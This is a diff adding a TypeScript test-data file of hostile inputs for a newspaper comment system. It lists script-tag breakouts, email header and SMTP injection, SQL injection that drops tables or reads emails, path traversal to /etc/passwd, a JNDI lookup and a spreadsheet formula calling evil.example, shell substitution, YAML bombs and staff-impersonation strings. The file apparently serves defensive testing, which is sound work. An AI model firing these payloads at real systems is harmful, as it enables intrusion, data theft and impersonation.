@@ -1,0 +1,103 @@
+import { group } from './case.ts'
+
+const jsonLd = group([
+  ['JSON-LD end', '</script><script>alert(1)</script>', 'out of the script element'],
+  ['JSON-LD end with a space', '</script >', 'out of the script element'],
+  ['JSON-LD comment', '<!--<script>', 'the element’s own end is no longer seen'],
+  ['JSON-LD string end', '","@type":"Thing","x":"\\', 'a property of its own'],
+  ['JSON-LD string escape', '\\"}],"\\u003c\\', 'a backslash before our quote'],
+  ['JSON-LD separators', '"\u2028alert(1)\u2029', 'not allowed in strings of old JavaScript'],
+  ['JSON-LD CDATA', ']]></script>', 'out of the element in XML'],
+])
+
+const headers = group([
+  ['header, CRLF', 'x\r\nBcc: all@evil.example', 'another recipient'],
+  ['header, LF', 'x\nBcc: all@evil.example', 'another recipient'],
+  ['header, CR', 'x\rBcc: all@evil.example', 'another recipient'],
+  ['header, folded', 'x\r\n Bcc: all@evil.example\r\n\tX-A: b', 'unfolded by some'],
+  ['header and body', 'x\r\n\r\n<html><script>alert(1)</script>', 'a body of its own'],
+  ['header, separators', 'x\u2028Bcc: a@evil.example\u0085Cc: b@evil.example', 'lines to some'],
+  ['header, percent-encoded', 'x%0D%0ASet-Cookie:%20a=b', 'decoded on the way out'],
+  ['header, in overlong letters', 'x\u560D\u560ASet-Cookie: a=b', 'CR and LF once cut to a byte'],
+  ['RFC 2047 word', '=?utf-8?q?=0D=0ABcc:_all=40evil.example?=', 'decoded by the reader’s mail program'],
+  [
+    'RFC 2047 word, base64',
+    '=?utf-8?b?PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==?=',
+    'decoded by the reader’s mail program',
+  ],
+  ['recipient list', 'a@evil.example, b@evil.example', 'two recipients'],
+  ['recipient with a name', '"Desk" <a@evil.example>', 'another recipient'],
+  ['recipient group', 'undisclosed: a@evil.example;', 'a group of recipients'],
+  ['recipient with a comment', 'a@evil.example(b@courier.example)', 'two parsers, two addresses'],
+  ['recipient in quotes', '"a@evil.example"@courier.example', 'two parsers, two addresses'],
+  ['SMTP dot', 'x\r\n.\r\nRCPT TO:<a@evil.example>', 'ends the letter early'],
+  ['SMTP bare dot', 'x\n.\n.\r\nQUIT', 'ends the letter early (SMTP smuggling)'],
+  ['MIME boundary', '--\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>', 'a part of its own'],
+  ['line From', 'From a@evil.example\n>From b', 'a new letter in an mbox'],
+  ['file name', '"; filename="x.exe"; x="\r\nX: y', 'another name for a download'],
+  [
+    'forged quotation',
+    'x\n\n— The Saltmere Courier, the desk\nhttp://evil.example/',
+    'a second letter in the letter',
+  ],
+])
+
+const others = group([
+  ['CSS address', 'url(javascript:alert(1)) url("//evil.example/x")', 'asked for by a style'],
+  ['CSS expression', 'x:expression(alert(1));-moz-binding:url(//evil.example/x)', 'runs in old engines'],
+  ['CSS end', '}</style><style>*{color:red}', 'restyles the page'],
+  ['CSS escape', '\\3c script\\3e \\0000000a', 'decoded by a style sheet'],
+  ['SQL quote', "'; drop table comment; --", 'ends a string in SQL'],
+  ['SQL union', "' union select email from commenter --", 'reads addresses'],
+  ['SQL dollar quote', '$$; drop table comment; $$ \\', 'ends a string in PostgreSQL'],
+  ['SQL wildcards', '%_\\%__[a-z]*', 'matches everything'],
+  ['SQL array and row', '{"a","b\\"}\\",NULL} (1,"x")', 'more elements than one'],
+  ['SQL JSON', '{"$ne":null} \\u0000', 'PostgreSQL’s jsonb has no \\u0000'],
+  ['SQL backslash x', "\\x00\\x27 E'\\''", 'bytes to some'],
+  ['path upwards', '../../../etc/passwd', 'a file outside'],
+  ['path upwards, encoded', '..%2F..%2f%2e%2e/etc/passwd', 'decoded after the check'],
+  ['path upwards, twice encoded', '%252e%252e%252fetc', 'decoded twice'],
+  ['path of Windows', '..\\..\\boot.ini C:\\CON', 'a file or a device'],
+  ['path with NUL', 'x%00.html', 'cut at the NUL'],
+  ['path to another host', '/\\evil.example //evil.example', 'a redirect to another site'],
+  ['path of our own', 'desk/sign-in/../../mailbox', 'another page'],
+  ['bad percent encoding', '%E0%A4%A %zz %', 'cannot be decoded'],
+  ['query', 'x?before=1&before=2#c1;a=b&&==', 'more fields than one'],
+  ['log line', 'x\n{"level":60,"msg":"forged"}', 'a line of its own in the log'],
+  ['log colours', '\u001B[2J\u001B]0;owned\u0007\u001B[31m', 'drives the terminal that shows the log'],
+  ['log colours, eight bits', '\u009B2J\u009D0;owned\u009C', 'drives the terminal that shows the log'],
+  ['log pattern', '\u0024{jndi:ldap://evil.example/a}', 'looked up by a logger'],
+  ['spreadsheet formula', '=HYPERLINK("http://evil.example/?"&A1)', 'runs where a list is opened'],
+  ['shell', '$(id) `id` ; id | id && id', 'runs in a shell'],
+  ['YAML tag', '!!js/function "alert(1)"', 'runs in a careless reader'],
+  ['YAML alias', '&a [*a, *a]', 'a billion nodes in a few lines'],
+  ['YAML key', 'title: x\nsection: desk\n---\nheadline: y', 'fields of its own'],
+  ['YAML merge', '<<: {credit: x}', 'fields of its own'],
+  ['YAML brackets', '['.repeat(2_000), 'the parser’s stack'],
+  ['YAML block', '- '.repeat(1_000), 'the parser’s stack'],
+  ['long regular run', `${'a.'.repeat(2_400)}@`, 'a pattern that looks back without bound'],
+  ['number', '1e309 -0 NaN 9007199254740993 0x10', 'another number than it says'],
+])
+
+/** What looks like the paper’s own words must stand where a reader’s words stand. */
+const imitations = group([
+  [
+    'tombstone',
+    'Taken down by the desk, rule 4: personal attack. 24 Nov, 10.00 am',
+    'a comment that looks removed',
+  ],
+  ['withdrawal', 'Taken back by its writer. 24 Nov, 10.00 am', 'a comment that looks withdrawn'],
+  ['tombstone markup', '<p class="gone">Taken down by the desk</p>', 'a comment that looks removed'],
+  ['receipt', 'Your comment was taken down. The rule: personal attack. Take it back', 'a forged receipt'],
+  ['staff mark', 'Nell Ashby Editor', 'a reader who looks like staff'],
+  ['staff mark in Cyrillic', 'Nеll Аshby · Еditоr', 'a reader who looks like staff'],
+  ['staff mark with space', `Nell Ashby${'\u00A0'.repeat(12)}Editor`, 'a reader who looks like staff'],
+  ['name of the paper', 'The Saltmere Courier, the desk', 'a reader who looks like the paper'],
+  ['tally', '214 published, 9 refused, 3 taken down · the public record', 'a second tally'],
+  ['withheld name', 'Name withheld', 'a name that looks like none'],
+  ['erased words', 'The words have been erased.', 'words that look erased'],
+  ['second comment', 'x\n\nMarian Holt 24 Nov, 10.00 am\n\nI agree.', 'two comments in one'],
+  ['desk mark', 'reported | Asha Rao has this one | in your hand', 'a card that looks taken'],
+])
+
+export const dataCases = [...jsonLd, ...headers, ...others, ...imitations]
